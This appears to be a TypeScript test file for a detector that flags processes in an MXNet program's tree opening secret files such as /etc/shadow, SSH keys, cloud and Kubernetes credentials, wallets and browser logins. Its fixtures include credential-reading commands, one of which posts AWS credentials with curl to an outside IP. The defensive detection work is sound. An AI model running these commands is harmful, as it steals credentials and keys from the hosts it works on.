import test from 'ava';
import secret from '../../detectors/secret.ts';
import { secretKind } from '../../detectors/places/secrets.ts';
import { fileAccessed, memory as kept, mxnetCalled, noon, processExecuted } from '../builders.ts';
import { afterLoad, beforeLoad, later, soon, told, tool, unnamed } from './deeds.ts';

const start = (entries = kept()) => secret.create(secret.config.parse({}), entries);
const opened = (path: string, change: Parameters<typeof fileAccessed>[0] = {}) => fileAccessed({ id: 'open', at: soon, place: { path }, ...change });
const ran = (...argv: readonly string[]) => processExecuted({ id: 'run', at: soon, process: tool(`/usr/bin/${argv[0]}`, argv) });
const cat = tool('/usr/bin/cat');

/** Rule, a path, as opened by the program with MXNet itself, as opened by another of its tree, and a near miss. */
const rules: readonly (readonly [string, string, string, string, string])[] = [
  ['secret.password-hashes', '/etc/shadow', 'high', 'high', '/etc/passwd'],
  ['secret.ssh-key', '/home/u/.ssh/id_ed25519', 'high', 'high', '/home/u/ssh/notes'],
  ['secret.ssh-key', '/etc/ssh/ssh_host_rsa_key', 'high', 'high', '/etc/ssh/moduli'],
  ['secret.ssh-settings', '/home/u/.ssh/known_hosts', 'low', 'low', '/home/u/known_hosts'],
  ['secret.ssh-settings', '/home/u/.ssh/id_rsa.pub', 'low', 'low', '/home/u/id_rsa.pub.txt'],
  ['secret.cloud-credentials', '/root/.aws/credentials', 'medium', 'high', '/root/aws/credentials'],
  ['secret.cloud-credentials', '/root/.config/gcloud/access_tokens.db', 'medium', 'high', '/root/.config/gtk/settings'],
  ['secret.cluster-credentials', '/home/u/.kube/config', 'medium', 'high', '/home/u/kube/config'],
  ['secret.service-account-token', '/var/run/secrets/kubernetes.io/serviceaccount/token', 'low', 'high', '/var/run/docker.pid'],
  ['secret.mounted', '/run/secrets/database', 'low', 'medium', '/run/secret'],
  ['secret.private-key', '/etc/kubernetes/pki/ca.key', 'high', 'high', '/etc/kubernetes/manifests/x.yaml'],
  ['secret.server-key', '/etc/ssl/private/server.key', 'low', 'medium', '/etc/ssl/certs/ca.pem'],
  ['secret.tool-token', '/home/u/.netrc', 'low', 'medium', '/home/u/netrc.md'],
  ['secret.shell-history', '/home/u/.bash_history', 'medium', 'medium', '/home/u/.bashrc'],
  ['secret.browser', '/home/u/.mozilla/firefox/x.default/logins.json', 'high', 'high', '/home/u/logins.json.md'],
  ['secret.password-store', '/home/u/keys.kdbx', 'high', 'high', '/home/u/keys.kdb'],
  ['secret.wallet', '/home/u/.bitcoin/wallet.dat', 'high', 'high', '/home/u/wallet.txt'],
  ['secret.kerberos', '/etc/krb5.keytab', 'medium', 'high', '/etc/krb5.conf'],
  ['secret.environment', '/proc/1/environ', 'medium', 'high', '/proc/1/status'],
];
for (const [rule, path, byItself, byOther, other] of rules) {
  test(`${path} is ${rule}: ${byItself} by the program itself, ${byOther} by another of its tree`, t => {
    const found = afterLoad(start())(opened(path));
    t.deepEqual(told(found), [`${rule} ${byItself}`]);
    t.deepEqual(found[0]?.because, ['open', 'load']);
    t.deepEqual(unnamed(found), []);
    t.deepEqual(told(afterLoad(start())(opened(path, { by: cat }))), [`${rule} ${byOther}`]);
    t.is(secretKind(other, false), null);
  });
}

test('what the configuration lists is told though its name says nothing', t => {
  t.deepEqual(told(afterLoad(start())(opened('/srv/customers.db'))), ['secret.listed medium']);
  t.deepEqual(afterLoad(start())(opened('/srv/models/a.params', { what: 'model' })), []);
});

test('a path inside a container is judged as the container sees it', t => {
  const place = { path: '/var/lib/overlay/1/merged/root/x', inside: '/root/.ssh/id_rsa' };
  t.deepEqual(told(afterLoad(start())(opened('', { place }))), ['secret.ssh-key high']);
});

test('who is not in the tree of a process with MXNet, or not known, is nobody\'s business', t => {
  const see = afterLoad(start());
  t.deepEqual(see(opened('/etc/shadow', { by: tool('/usr/sbin/sshd', ['sshd'], { ancestors: [] }) })), []);
  t.deepEqual(see(opened('/etc/shadow', { by: null, gone: 7 })), []);
});

test('what the program reads before its first load is its habit, also after a restart, the rest is not', t => {
  const entries = kept();
  const see = beforeLoad(start(entries));
  t.deepEqual(see(opened('/root/.aws/credentials', { at: noon - 1_000 })).length, 1);
  see(mxnetCalled());
  t.deepEqual(see(opened('/root/.aws/credentials')), []);
  t.deepEqual(afterLoad(start(kept(entries.entries)))(opened('/root/.aws/credentials')), []);
  t.deepEqual(told(see(opened('/root/.ssh/id_rsa'))), ['secret.ssh-key high']);
});

test('what is read while the model loads is told when the call returns, and is no habit', t => {
  const see = beforeLoad(start());
  see(opened('/etc/shadow', { at: noon + 100 }));
  const found = see(mxnetCalled({ id: 'load', at: noon, durationMs: 400 }));
  t.deepEqual(told(found), ['secret.password-hashes high']);
  t.regex(found[0]?.summary ?? '', /opened the password hashes of this host "\/etc\/shadow", while "\/srv\/models\/model-0000\.params" was loaded/);
});

test('an hour later it is one step less', t => { t.deepEqual(told(afterLoad(start())(opened('/etc/shadow', { at: later }))), ['secret.password-hashes medium']); });

const commands: readonly (readonly [string, readonly string[]])[] = [
  ['secret.password-hashes high', ['cat', '/etc/shadow']],
  ['secret.ssh-key high', ['sh', '-c', 'tar czf - ~/.ssh | base64']],
  ['secret.cloud-credentials high', ['curl', '-d', '@/root/.aws/credentials', 'http://203.0.113.9/']],
  ['secret.environment high', ['bash', '-c', 'tr "\\\\0" x </proc/1/environ']],
  ['secret.service-account-token high', ['sh', '-c', 'echo $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)']],
];
for (const [expected, argv] of commands) {
  test(`a command that names it is ${expected}: ${argv.join(' ')}`, t => { t.deepEqual(told(afterLoad(start())(ran(...argv))), [expected]); });
}

for (const argv of [
  ['ssh', '-i', '/home/u/.ssh/id_rsa', 'host'], ['git', '-c', 'credential.helper=/home/u/.git-credentials', 'fetch'], ['ls', '/root/.aws'], ['cat', '/etc/passwd'],
  ['sh', '-c', 'echo https://host/.ssh/id_rsa'], ['cp', '/home/u/.ssh/known_hosts', '/tmp/x'], ['tar', 'czf', 'home.tgz', '/home/u/project'],
]) {
  test(`a command that uses, asks about or only looks like it is nothing here: ${argv.join(' ')}`, t => { t.deepEqual(afterLoad(start())(ran(...argv)), []); });
}
